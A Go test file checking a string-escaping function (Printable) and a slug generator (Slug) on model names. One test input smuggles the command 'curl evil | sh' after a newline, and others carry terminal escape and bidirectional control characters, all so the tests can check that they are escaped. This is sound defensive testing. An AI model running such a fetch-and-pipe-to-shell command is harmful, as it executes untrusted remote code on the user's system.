package show_test

import (
	"testing"

	"github.com/gpuplan/gpuplan/model/show"
)

func TestPrintable(t *testing.T) {
	tests := []struct{ in, want string }{
		{"Llama 3.1 8B", "Llama 3.1 8B"},
		{"模型", "模型"},
		{"x\ncurl evil | sh", `x\ncurl evil | sh`},
		{"\x1b]0;t\x07", `\x1b]0;t\x07`},
		{"a\u009bb", `a\x9bb`},
		{"a\u2066b", `a\u2066b`},
		{"a\u2028b: 1\u2029", `a\u2028b: 1\u2029`},
		{"\xff", `\xff`},
	}
	for _, tt := range tests {
		if got := show.Printable(tt.in); got != tt.want {
			t.Errorf("Printable(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestSlug(t *testing.T) {
	for _, c := range []struct {
		in   string
		max  int
		want string
	}{
		{"Llama-3.1 8B", 52, "llama-3-1-8b"},
		{"  --Qwen/Qwen3-0.6B--  ", 52, "qwen-qwen3-0-6b"},
		{"通义千问", 52, ""},
		{"a\x1b[31mb", 52, "a-31mb"},
		{"abcd efgh", 5, "abcd"}, // the cut lands on a dash, which goes
		{"abcdef", 3, "abc"},
	} {
		if got := show.Slug(c.in, c.max); got != c.want {
			t.Errorf("Slug(%q, %d) = %q, want %q", c.in, c.max, got, c.want)
		}
	}
}
